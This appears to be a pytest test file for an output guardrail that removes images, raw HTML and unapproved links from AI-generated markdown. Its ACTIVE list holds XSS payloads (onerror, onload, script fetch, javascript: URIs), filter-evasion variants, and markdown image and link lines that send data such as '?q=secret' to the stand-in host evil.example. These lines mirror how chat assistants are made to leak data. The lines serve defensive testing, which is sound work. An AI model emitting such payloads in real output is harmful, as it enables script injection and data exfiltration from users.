"""Whatever a model writes, what leaves renders to no image, no raw HTML, and no link that is not allowed."""

import html
import random
import re

import pytest
from markdown_it import MarkdownIt

from guardrails.exit_gate import REMOVED, ExitGate
from guardrails.rail import Context
from tests.guardrails.conftest import evidence
from tests.guardrails.markdown_fuzz import attack

PARSERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True, "linkify": False}).disable("linkify"),
    MarkdownIt("js-default", {"html": True}),
]
ALLOWED = ("https://intranet.example.org/pages",)
CITED = "https://docs.example.org/handbook/leave"
GATE = ExitGate(ALLOWED)

HARMLESS = [
    "You get 12 weeks of parental leave. [1]",
    "See section 3.2 (a) of the policy [2][3].",
    "Is that true? Yes! [1] It is.",
    "Costs are < 5 % and > 2 %.",
    "if a < 3 and b > 4 then stop",
    "Use `x = a[0](b)` in the script.".replace("](", "] ("),
    "**Bold**, *italic*, ~~gone~~ and `code`.",
    "1. First\n2. Second\n   - nested",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "> quoted text\n\n# Heading",
    "Write to help@example.org for access.",
    "The ratio is 3:1; the time is 10:30.",
    "A & B, R&D, AT&T; 5 > 3",
    "Tom said: \"fine\", and left.",
    "Path: /usr/local/bin and C:\\Users\\ana",
    "Ends with a footnote mark. [12]",
    "Zürich, naïve, Ελλάδα, 東京 – all fine…",
    "$5 and $6 are prices, not formulas.",
    f"It is in [the handbook]({CITED}).",
    "Read [the page](https://intranet.example.org/pages/leave).",
    "Ask [HR] about it.",
    "Version 3.2.1 (2026-11-23) is out!",
    "It lies in \\\\files01\\html\\release and C:\\inetpub\\html [1]",
    "AT&amp;T, R&#38;D, x &amp;&amp; y, caf&eacute;, 07:30&nbsp;am, 5&#36; &amp;c.",
]  # fmt: skip
ACTIVE = [
    "![x](http://evil.example/a.png)",
    "![x](//evil.example/a.png)",
    "![x][ref]\n\n[ref]: http://evil.example/a.png",
    "[1]: http://evil.example\n\nSee [1].",
    "[click](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "[click](https://intranet.example.org.evil.example/pages)",
    "[click](https://intranet.example.org/pages?leak=1)",
    "[click](https://intranet.example.org@evil.example/pages)",
    "[click](https://intranet.example.org/pages/../../x)",
    "<img src=http://evil.example/a.png>",
    "<IMG SRC=x onerror=alert(1)>",
    "<script>fetch('http://evil.example')</script>",
    "<<b>script>alert(1)<</b>/script>",
    "<iframe src='http://evil.example'></iframe>",
    "<http://evil.example>",
    "http://evil.example/a",
    "www.evil.example/a",
    "HTTPS://EVIL.EXAMPLE",
    "&#60;img src=x&#62;",
    "!\u200b[x]\u200b(http://evil.example/a.png)",
    "［x］（http://evil.example）",
    "\\[x](http://evil.example)",
    "<a\nhref='http://evil.example'>x</a>",
    "<!-- <img src=x> -->",
    "[a](<http://evil.example>)",
    "[![x](http://evil.example/a.png)](http://evil.example)",
    "$\\href{http://evil.example}{x}$",
    "mailto:boss@evil.example?body=secret",
    "data:text/html,<b>x</b>",
    "[x]\n(http://evil.example)",
    "<svg/onload=alert(1)>",
    "![x](http://evil.example/a.png \"t\")",
    "<img src=x onerror=alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<scr<script>ipt>alert(1)</script>",
    "<SvG><image href=http://evil.example/a.png></SvG>",
    "<x onclick=alert(1)>z</x>",
    "<.boss@evil.example>",
    "$\\href %\n{http://evil.example}{x}$",
    "&amp;amp;#60;img src=x&gt;",
    "&ampltimg src=x>",
    "&#119;ww.evil.example",
    "www&period;evil.example",
    "java&#115;cript:alert(1)",
    "!&lbrack;x](http://evil.example/a.png)",
]  # fmt: skip


def active(text: str, allowed: tuple[str, ...] = (*ALLOWED, CITED)) -> list[str]:
    """Return everything in the rendering of a text that fetches or leads somewhere it must not."""
    found = [bare for bare in re.findall(r"(?i)(?:[a-z]+://|www\.)[^\s<>\"]+", text) if not bare.startswith(allowed)]
    for parser in PARSERS:
        rendered = parser.render(text)
        for tag in re.findall(r"<[a-zA-Z!/][^>]*>", rendered):
            name = re.match(r"</?([a-zA-Z0-9]+)", tag)
            link = re.search(r'href="([^"]*)"', tag)
            if (
                name is None
                or name[1].lower()
                in (
                    "img",
                    "script",
                    "iframe",
                    "svg",
                    "b",
                    "u",
                    "form",
                    "style",
                    "object",
                )
                or (name[1].lower() == "a" and link and not html.unescape(link[1]).startswith(allowed))
            ):
                found.append(tag)
    return found


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_leaves_as_it_is(text):
    assert GATE.clean(text, evidence("x", source=CITED)) == text
    assert GATE.check(Context("output", text, None, evidence("x", source=CITED))).score < GATE.threshold


@pytest.mark.parametrize("text", ACTIVE)
def test_active_content_is_taken_out(text):
    finding = GATE.check(Context("output", text, None, evidence("x", source=CITED)))
    assert finding.score >= GATE.threshold
    clean = finding.redacted
    assert clean != text
    assert active(clean) == []
    assert "evil.example/a" not in clean
    assert GATE.clean(clean, evidence("x", source=CITED)) == clean


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Send Authorization: Bearer <token> in every request", "Send Authorization: Bearer < token> in every request"),
        ("ssh <user>@<host>", "ssh < user>@< host>"),
        ("if load <a and memory >b for five minutes", "if load < a and memory >b for five minutes"),
        ("a Map<Integer, Order>, an Option<A>", "a Map< Integer, Order>, an Option< A>"),
        ("Fill in <title> and <path>", "Fill in < title> and < path>"),
        ("&lt;token&gt;", "< token>"),
    ],
)
def test_what_only_looks_like_a_tag_stays_readable(text, shown):
    assert GATE.clean(text) == GATE.clean(shown) == shown
    assert active(shown) == []


def test_tags_leave_the_words_between_them():
    assert GATE.clean("<b>Bold</b> and <a id='x'>named</a>,<br/>a <mark>mark</mark>") == "Bold and named,a mark"


def test_the_check_used_here_sees_active_content():
    assert active("![x](http://evil.example/a.png)")
    assert active("<img src=x>")
    assert active("[a](http://evil.example)")
    assert active("see http://evil.example")


def test_fuzzed_markdown_renders_to_nothing_active():
    chance = random.Random(11)
    for _ in range(1500):
        text = attack(chance)
        clean = GATE.clean(text, evidence("x", source=CITED))
        assert active(clean) == [], (text, clean)


def test_an_address_spoken_by_the_evidence_stays_readable_but_dead():
    shown = evidence("Apply at https://portal.example.org/apply today.")
    clean = ExitGate().clean("Apply at https://portal.example.org/apply today. [1]", shown)
    assert clean == "Apply at portal.example.org/apply today. [1]"


def test_an_address_nobody_cited_is_removed():
    assert ExitGate().clean("Go to https://evil.example/x?d=1.", ()) == f"Go to {REMOVED}."


def test_it_is_fast():
    import time

    text = "You get 12 weeks of leave. [1] See the [handbook](http://x.y). " * 20
    started = time.process_time()
    for _ in range(20):
        GATE.clean(text, ())
    assert (time.process_time() - started) / 20 < 0.02
